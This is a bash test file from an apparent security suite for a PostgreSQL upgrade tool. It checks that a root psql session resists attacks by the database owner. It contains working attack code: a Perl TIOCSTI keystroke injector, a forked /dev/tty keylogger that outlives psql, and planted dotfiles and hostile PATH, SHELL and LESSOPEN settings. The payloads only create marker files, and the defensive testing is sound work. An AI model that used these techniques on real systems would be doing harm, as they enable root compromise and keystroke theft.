# shellcheck shell=bash disable=SC1091,SC2034,SC2086,SC2154,SC2016 # the parts of tests/hostile share their variables; dollars are the attackers'
# machine: --majors 15,17
# psql, a process of the owner's, on the terminal of root (pg_version_upgrade --shell).

. /opt/hostile/attacks/environment.sh

# An upgrade that is open, with neither server up: the new one cannot take a row.
open_upgrade() {
	sql 15 postgres "CREATE FUNCTION fails(i int) RETURNS boolean LANGUAGE plpgsql AS \$f\$ BEGIN
		RETURN pg_catalog.current_setting('server_version_num')::int < 170000; END \$f\$; CREATE TABLE c (i int CHECK (fails(i))); INSERT INTO c VALUES (1)"
	upgrade 1 -v 17 --no-trial
}
# root_logs_in: an interactive shell of root's, whose keys are a pipe and whose screen is a file.
root_logs_in() {
	keys=$hostile/keys screen=$hostile/screen
	rm -f "$keys" "$screen"
	mkfifo -m 0600 "$keys"
	(umask 077; exec setsid script -qefc "exec env PS1='root: ' HISTFILE=/dev/null bash --norc --noprofile -i" /dev/null <>"$keys" >>"$screen" 2>&1) &
	attackers+=($!)
	seen 'root: '
}
typed() { printf '%s\n' "$1" >"$keys"; }
# seen WORDS: they are on the screen, and were not when it was wiped.
seen() {
	local tries=600
	until grep -aqF "$1" "$screen"; do
		[ $((tries -= 1)) -gt 0 ] || { hole "not on the screen: $1: $(tail -c 300 "$screen" | tr '\n' '|' | cat -v)"; return 1; }
		sleep 0.05
	done
}
opens_psql() {
	: >"$screen"
	typed "$1"
	seen '=# '
}
leaves_psql() {
	: >"$screen"
	typed '\q'
	seen 'root: '
	typed 'echo at the "end"'
	seen 'at the end'
}
# The owner's program that types on the terminal that it is started on.
typist() {
	printf 'for (split //, "touch %s\\n") { ioctl(STDIN, 0x5412, $_) or die "refused: $!\\n" }\nprint "TY", "PED\\n"' "$1" >/tmp/typist.pl
}
attack_psql_types_nothing_into_the_shell_of_root() {
	local side
	open_upgrade
	root_logs_in
	for side in old new; do
		opens_psql "pg_version_upgrade -c shop --shell $side"
		typist "$hostile/ran/typed"
		typed '\! perl /tmp/typist.pl'
		# What its own terminal takes is read by psql alone.
		seen TYPED
		leaves_psql
	done
	# On a terminal that is shared it would have been typed.
	[ "$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null || echo 1)" = 1 ] || return
	typist "$hostile/control"
	: >"$screen"
	typed 'setpriv --reuid=postgres --regid=postgres --init-groups perl /tmp/typist.pl'
	seen TYPED
	typed 'echo after the "control"'
	seen 'after the control'
	[ -e "$hostile/control" ] || hole 'the attack proves nothing: nothing was typed on a shared terminal either'
	rm -f "$hostile/control"
}
attack_a_process_that_outlives_psql_reads_no_key_of_root() {
	open_upgrade
	cat >/tmp/listener.pl <<-'END'
		$SIG{HUP} = $SIG{TTIN} = 'IGNORE';
		open my $tty, '<', '/dev/tty' or die;
		print "LISTE", "NS\n";
		exit if fork;
		select undef, undef, undef, 0.02 while kill 0, $ARGV[0];
		while (sysread $tty, my $key, 1) { open my $f, '>>', "$ARGV[1]/ran/keys"; print $f $key }
		open my $f, '>', "$ARGV[1]/between/deaf";
	END
	root_logs_in
	opens_psql 'pg_version_upgrade -c shop --shell old'
	typed "\\! perl /tmp/listener.pl \$PPID $hostile"
	seen LISTENS
	chmod 1777 "$hostile/between"
	leaves_psql
	until [ -e "$hostile/between/deaf" ] || [ -e "$hostile/ran/keys" ]; do sleep 0.05; done
}
attack_nothing_that_was_planted_runs_on_the_terminal() {
	local name
	open_upgrade
	traps
	owner "cd; printf '\"q\": \"\\\\\\\\! touch $hostile/ran/inputrc\\\\n\"\n' >.inputrc; mkdir -p bin; cp -p /tmp/ev/bin/* bin
		for name in .bashrc .profile .bash_profile .bash_login .bash_logout .lesskey .pg_service.conf; do echo 'touch $hostile/ran/file' >\$name; done
		printf '*:*:*:*:x\n' >.pgpass; chmod 600 .pgpass"
	root_logs_in
	for name in "${environment[@]}" "PATH=$ev/bin:$PATH" "INPUTRC=/var/lib/postgresql/.inputrc" "SHELL=$ev/bin/sh" "PSQL_HISTORY=/etc/history" "LESSOPEN=|$ev/pager"; do
		[[ $name == IFS=* || $name == TERM=* ]] || typed "export ${name%%=*}=$(printf %q "${name#*=}")"
	done
	opens_psql '/usr/bin/pg_version_upgrade -c shop --shell old'
	# A pager that waits reads the q; psql forgets it.
	typed '\pset pager always'
	typed 'SELECT 1;'
	typed 'q'
	typed '\r'
	typed "\\echo q'u'it"
	seen quit
	leaves_psql
	[ ! -e /etc/history ] || hole 'a history was written to /etc'
	rm -f /root/.psqlrc
}
